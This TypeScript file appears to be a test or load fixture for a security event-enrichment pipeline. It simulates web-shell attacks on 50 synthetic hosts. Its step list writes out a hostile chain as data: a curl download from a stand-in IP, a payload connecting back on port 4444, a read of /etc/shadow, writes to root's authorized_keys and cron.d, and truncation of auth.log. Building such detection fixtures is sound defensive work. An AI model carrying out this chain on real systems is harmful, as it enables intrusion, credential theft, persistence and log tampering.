import { createEnricherPipeline } from '@ringfence/enricher';
import {
  consumerRecords,
  createSyntheticHost,
  credentialsOf,
  O,
  type SyntheticHost,
  type SyntheticProcess,
} from '@ringfence/synthetic';
import { TOPIC } from '@ringfence/wire';

const HOSTS = 50;
/** Unrelated attacks on each host at the same time */
const ATTACKS = 10;
const AS_NOBODY = { credentials: credentialsOf(65534) };

interface Attack {
  readonly host: SyntheticHost;
  readonly shell: SyntheticProcess;
  readonly number: number;
}

/** The effects of a web shell's commands, in order */
const STEPS: readonly ((attack: Attack) => void)[] = [
  ({ host, shell }) => host.spawn(shell, '/usr/bin/id', ['id'], AS_NOBODY),
  ({ host, shell, number }) => {
    const curl = host.spawn(
      shell,
      '/usr/bin/curl',
      ['curl', '-o', `/tmp/x${number}`, 'http://203.0.113.9/x'],
      AS_NOBODY,
    );
    host.connect(curl, '203.0.113.9', 80);
    host.open(curl, `/tmp/x${number}`, O.WRONLY | O.CREAT);
  },
  ({ host, shell, number }) =>
    host.connect(host.spawn(shell, `/tmp/x${number}`, ['x'], AS_NOBODY), '203.0.113.9', 4444),
  ({ host, shell }) => host.open(host.spawn(shell, '/usr/bin/cat', ['cat', '/etc/shadow']), '/etc/shadow'),
  ({ host, shell }) => host.open(host.spawn(shell, '/usr/bin/tee', ['tee']), '/root/.ssh/authorized_keys', O.WRONLY),
  ({ host, shell, number }) =>
    host.open(host.spawn(shell, '/usr/bin/tee', ['tee']), `/etc/cron.d/x${number}`, O.WRONLY),
  ({ host, shell }) => host.open(shell, '/var/log/auth.log', O.WRONLY | O.TRUNC),
];

/**
 * Returns EventBatch records of many hosts under attack at the same time: hundreds of incidents are open, and each
 * grows with every step.
 */
export function recordAttacks(): Buffer[] {
  const hosts = Array.from({ length: HOSTS }, (_, n) =>
    createSyntheticHost({ hostId: `00000000-0000-4000-8000-${String(n).padStart(12, '0')}` }),
  );
  const keys = new Map(hosts.map(({ hostId, key }) => [hostId, key.publicKey]));
  using enricher = createEnricherPipeline({ enrolment: { keyFor: (hostId) => keys.get(hostId) } });
  let offset = 0;
  const enrich = (host: SyntheticHost): Buffer[] =>
    enricher
      .handle(consumerRecords(host.hostId, [host.batch()], TOPIC.raw, offset++))
      .outputs.flatMap(({ topic, value }) => (topic === TOPIC.events && value !== null ? [Buffer.from(value)] : []));
  const attacks = hosts.flatMap((host) => beginAttacks(host));
  return STEPS.flatMap((step) => {
    for (const attack of attacks) step(attack);
    return hosts.flatMap((host) => {
      host.tick();
      return enrich(host);
    });
  });
}

function beginAttacks(host: SyntheticHost): Attack[] {
  host.snapshot(host.init, '/usr/lib/systemd/systemd');
  return Array.from({ length: ATTACKS }, (_, number) => {
    const server = host.spawn(host.init, '/usr/sbin/nginx', ['nginx'], AS_NOBODY);
    return { host, shell: host.spawn(server, '/bin/sh', ['sh', '-c', 'x'], AS_NOBODY), number };
  });
}
